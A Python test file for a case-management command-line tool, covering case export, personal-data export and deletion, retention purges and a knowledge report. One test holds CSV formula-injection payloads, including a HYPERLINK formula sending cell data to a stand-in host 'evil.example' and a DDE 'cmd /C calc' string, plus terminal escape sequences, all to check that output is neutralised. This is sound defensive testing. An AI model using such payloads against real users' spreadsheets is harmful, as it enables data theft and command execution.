"""The staff command line on a real SQLite database."""

import csv
import json
import shutil
import stat
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from actions.alerts.service import subscribe
from actions.cases.experts import load_experts
from actions.cases.service import add_event, open_case
from actions.cli import main, spreadsheet_cell
from actions.settings import PROJECT_ROOT, get_settings
from actions.store import AlertSubscription, Case, OutboxMessage, migrate, session_scope, utcnow
from tests.factories import intake


@pytest.fixture
def case_no(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'cases.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    get_settings.cache_clear()
    migrate(url)
    experts, _ = load_experts(PROJECT_ROOT / "knowledge" / "experts.yml")
    form = intake(
        sender_id="web-1",
        language="en",
        enterprise="Example Textiles Co., Ltd.",
        contact="ops@example.com",
        country="US",
        description="A cease-and-desist letter",
        industry=None,
    )
    with session_scope(url) as s:
        number = open_case(s, form, experts)[0].case_no
    yield number
    get_settings.cache_clear()


def test_list_show_assign_note_close_and_export(case_no, capsys, tmp_path):
    assert main(["cases", "list"]) == 0
    assert case_no in capsys.readouterr().out
    assert main(["cases", "assign", case_no, "exp-002"]) == 0
    assert main(["cases", "note", case_no, "Called the enterprise"]) == 0
    assert main(["cases", "close", case_no, "--note", "settled"]) == 0
    capsys.readouterr()
    assert main(["cases", "show", case_no]) == 0
    shown = capsys.readouterr().out
    assert f"{case_no}: closed (Sample Expert B" in shown and "Called the enterprise" in shown
    out = tmp_path / "cases.csv"
    assert main(["cases", "export", str(out)]) == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["case_no"] == case_no and row["status"] == "closed"
    assert main(["cases", "show", "IP-2026-999999"]) == 1
    assert main(["outbox", "--all"]) == 0


def test_export_turns_formulas_into_text_and_is_readable_only_by_its_owner(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'cases.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    get_settings.cache_clear()
    migrate(url)
    hostile = intake(
        enterprise='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        contact="+1-555-0100",
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        channel="\tweb",
    )
    with session_scope(url) as s:
        open_case(s, hostile, [])
    out = tmp_path / "cases.csv"
    try:
        assert main(["cases", "export", str(out)]) == 0
    finally:
        get_settings.cache_clear()
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["enterprise"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["contact"] == "'+1-555-0100" and row["description"].startswith("'@SUM")
    assert row["channel"] == "'\tweb" and row["country"] == "JP"  # plain values are left alone
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("-2", "'-2"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (5, 5), (None, None)],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


def test_list_and_show_escape_control_characters_from_the_form(tmp_path, monkeypatch, capsys):
    url = f"sqlite:///{tmp_path / 'cases.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    get_settings.cache_clear()
    migrate(url)
    with session_scope(url) as s:
        number = open_case(s, intake(enterprise="Evil\x1b[2J Co.\nIP-2026-000999  open", description="a\nb\x07"), [])[
            0
        ].case_no
    try:
        assert main(["cases", "list"]) == 0 and main(["cases", "show", number]) == 0
    finally:
        get_settings.cache_clear()
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "Evil\\x1b[2J Co.\\x0aIP-2026-000999  open" in out  # one line, not a forged second case
    assert "a\nb\\x07" in out  # the description keeps its line breaks


@pytest.fixture
def two_conversations(tmp_path, monkeypatch):
    """tg-7001 opened a case and subscribed; web-2 too; the sink holds one delivered line for each."""
    url = f"sqlite:///{tmp_path / 'cases.db'}"
    sink = tmp_path / "notifications.jsonl"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("NOTIFIER_SINK", str(sink))
    get_settings.cache_clear()
    migrate(url)
    with session_scope(url) as s:
        mine = open_case(s, intake(sender_id="tg-7001", contact="zhang@example.com"), [])[0]
        add_event(s, mine.case_no, "note", "staff", "called back")
        theirs = open_case(s, intake(sender_id="web-2", enterprise="Other Co."), [])[0]
        add_event(s, theirs.case_no, "note", "staff", "called back")
        subscribe(s, "tg-7001", ["KR"], "all", "zh")
        subscribe(s, "web-2", ["KR"], "all", "zh")
        rows = list(s.scalars(select(OutboxMessage).order_by(OutboxMessage.id)))
        sink.write_text(
            "".join(json.dumps({"id": r.id, "kind": r.kind, "recipient": r.recipient}) + "\n" for r in rows),
            encoding="utf-8",
        )
    yield url, sink
    get_settings.cache_clear()


def test_personal_data_export_writes_a_private_json_copy(two_conversations, tmp_path, capsys):
    out = tmp_path / "copy" / "tg-7001.json"
    assert main(["personal-data", "export", "--sender", "tg-7001", "-o", str(out)]) == 0
    data = json.loads(out.read_text(encoding="utf-8"))
    assert [c["contact"] for c in data["cases"]] == ["zhang@example.com"]
    assert [x["sender_id"] for x in data["subscriptions"]] == ["tg-7001"]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    assert "1 cases exported" in capsys.readouterr().out
    assert main(["personal-data", "export", "--company", "Other Co."]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert [c["sender_id"] for c in printed["cases"]] == ["web-2"]


def test_personal_data_delete_asks_first_and_then_erases_one_conversation(two_conversations, monkeypatch, capsys):
    url, sink = two_conversations
    monkeypatch.setattr("builtins.input", lambda prompt: "no")
    assert main(["personal-data", "delete", "--sender", "tg-7001"]) == 1
    shown = capsys.readouterr().out
    assert (
        "cases: 1 (with 3 history entries" in shown and "alert subscriptions: 1" in shown
    )  # created, staff alerted, note
    with session_scope(url) as s:
        assert s.scalar(select(func.count()).select_from(Case)) == 2  # nothing deleted without a yes
    monkeypatch.setattr("builtins.input", lambda prompt: "yes")
    assert main(["personal-data", "delete", "--sender", "tg-7001"]) == 0
    with session_scope(url) as s:
        assert s.scalars(select(Case.sender_id)).all() == ["web-2"]
        assert s.scalars(select(AlertSubscription.sender_id)).all() == ["web-2"]
    assert all(json.loads(line)["recipient"] != "7001" for line in sink.read_text(encoding="utf-8").splitlines())


def test_personal_data_delete_with_yes_does_not_ask(two_conversations, monkeypatch):
    url, _ = two_conversations

    def no_questions(prompt: str) -> str:
        raise AssertionError("asked for confirmation")

    monkeypatch.setattr("builtins.input", no_questions)
    assert main(["personal-data", "delete", "--company", "other co.", "--yes"]) == 0
    with session_scope(url) as s:
        assert s.scalars(select(Case.enterprise)).all() == ["青岛示例机械有限公司"]
        assert len(s.scalars(select(AlertSubscription.sender_id)).all()) == 2  # subscriptions are per conversation


def test_personal_data_needs_exactly_one_subject_and_its_help_names_the_pipl(capsys):
    with pytest.raises(SystemExit):
        main(["personal-data", "export"])
    with pytest.raises(SystemExit):
        main(["personal-data", "export", "--sender", "a", "--company", "b"])
    capsys.readouterr()
    with pytest.raises(SystemExit):
        main(["personal-data", "--help"])
    assert "Personal Information Protection Law (PIPL" in " ".join(capsys.readouterr().out.split())


def test_purge_clears_what_is_past_the_retention_setting(two_conversations, monkeypatch, capsys):
    url, sink = two_conversations
    with session_scope(url) as s:
        for case in s.scalars(select(Case)):
            case.status, case.updated_at = "closed", utcnow() - timedelta(days=40)
    monkeypatch.setenv("RETENTION_DAYS", "30")
    get_settings.cache_clear()
    assert main(["purge", "--dry-run"]) == 0
    assert "retention 30 days (dry run" in capsys.readouterr().out
    with session_scope(url) as s:
        assert "" not in s.scalars(select(Case.contact)).all()
    assert main(["purge", "--days", "60"]) == 0  # --days wins over the setting: nothing that old
    with session_scope(url) as s:
        assert "" not in s.scalars(select(Case.contact)).all()
    assert main(["purge"]) == 0
    out = capsys.readouterr().out
    assert "closed cases cleared (contact, description, notes): 2" in out and "lines struck from" in out
    with session_scope(url) as s:
        assert s.scalars(select(Case.contact)).all() == ["", ""]
    assert sink.read_text(encoding="utf-8") == ""  # the cases' notifications are gone from the sink too


FIXTURE_KNOWLEDGE = Path(__file__).resolve().parents[1] / "fixtures" / "knowledge"


def due_cell(last_reviewed: date) -> str:
    """The report's Markdown cell for the days until a document reviewed that day is due again (365 days later)."""
    days = (last_reviewed + timedelta(days=365) - date.today()).days
    return str(days) if days >= 0 else f"**{days}** (overdue)"


def test_report_on_the_fixture_corpus_counts_sources_passages_and_asks(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("KNOWLEDGE_DIR", str(FIXTURE_KNOWLEDGE))
    get_settings.cache_clear()
    out = tmp_path / "report.md"
    try:
        assert main(["report", "--out", str(out)]) == 0
    finally:
        get_settings.cache_clear()
    header, *lines = capsys.readouterr().out.splitlines()
    assert header.split()[:5] == ["document", "official", "secondary", "unmarked", "unverified"]
    rows = {line.split()[0]: line.split() for line in lines}
    assert list(rows) == ["fx-pph-basics", "fx-pph-directions", "fx-rcep-trademarks"]  # all official: soonest due
    assert rows["fx-pph-directions"][1:6] == ["2", "0", "0", "0/4", "2026-01-15"]
    assert rows["fx-rcep-trademarks"][1:6] == ["1", "0", "0", "0/2", "2026-02-01"]
    assert [row[-1] for row in rows.values()] == ["2/2", "2/2", "1/1"]  # sections with asks / sections
    page = out.read_text(encoding="utf-8")
    directions = f"| 2 | 0 | 0 | 0/4 | 2026-01-15 | {due_cell(date(2026, 1, 15))} | 2/2 |"
    assert f"| fx-pph-directions | `tests/fixtures/knowledge/pph/pph-directions.md` {directions}" in page
    assert "Left out" not in page


@pytest.fixture
def risky_corpus(tmp_path):
    """The fixture corpus where the RCEP document rests on a secondary source only, the directions document
    marks two passages unverified, an older copy of the basics is due first, and one file is broken."""
    corpus = tmp_path / "knowledge"
    shutil.copytree(FIXTURE_KNOWLEDGE, corpus)

    def edit(name: str, *changes: tuple[str, str]) -> None:
        path = corpus / name
        text = path.read_text(encoding="utf-8")
        for old, new in changes:
            assert old in text
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8")

    edit("rcep/rcep-trademarks.md", ("- official: https://rcepsec.org/", "- secondary: https://rcepsec.org/"))
    edit(
        "pph/pph-directions.md",
        ("须在韩国第一次审查意见之前提出。", "须在韩国第一次审查意见之前提出（未核实）。"),
        ("made before its first office action.", "made before its first office action (unverified)."),
    )
    shutil.copy(corpus / "pph" / "pph-basics.md", corpus / "pph" / "pph-basics-old.md")
    edit(
        "pph/pph-basics-old.md",
        ("id: fx-pph-basics\n", "id: fx-pph-basics-old\n"),
        ("last_reviewed: 2026-01-15", "last_reviewed: 2025-11-03"),
        ("  - official: https://www.jpo.go.jp/", "  - https://www.jpo.go.jp/"),
    )
    (corpus / "pph" / "broken.md").write_text("no front matter\n", encoding="utf-8")
    return corpus


def test_report_puts_the_riskiest_documents_first_and_writes_markdown(risky_corpus, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("KNOWLEDGE_DIR", str(risky_corpus))
    get_settings.cache_clear()
    out = tmp_path / "out" / "report.md"
    try:
        assert main(["report", "--out", str(out)]) == 0
    finally:
        get_settings.cache_clear()
    printed = capsys.readouterr()
    rows = [line.split() for line in printed.out.splitlines()[1:]]
    # no official source first (the unmarked URL is not official either), then most unverified, then soonest due
    assert [row[0] for row in rows] == ["fx-pph-basics-old", "fx-rcep-trademarks", "fx-pph-directions", "fx-pph-basics"]
    assert rows[0][1:5] == ["0", "0", "1", "0/4"] and rows[1][1:5] == ["0", "1", "0", "0/2"]
    assert rows[2][1:5] == ["2", "0", "0", "2/4"] and rows[3][1:5] == ["1", "0", "0", "0/4"]
    assert "pph/broken.md: left out of the report, it has errors" in printed.err
    page = out.read_text(encoding="utf-8")
    lines = [line for line in page.splitlines() if line.startswith("| fx-")]
    assert [line.split(" | ")[0] for line in lines] == [f"| {row[0]}" for row in rows]
    assert lines[0].endswith(f"| **0** | 0 | 1 | 0/4 | 2025-11-03 | {due_cell(date(2025, 11, 3))} | 2/2 |")
    assert lines[2].endswith(f"| 2 | 0 | 0 | 2/4 | 2026-01-15 | {due_cell(date(2026, 1, 15))} | 2/2 |")
    assert page.rstrip().endswith("/pph/broken.md`")
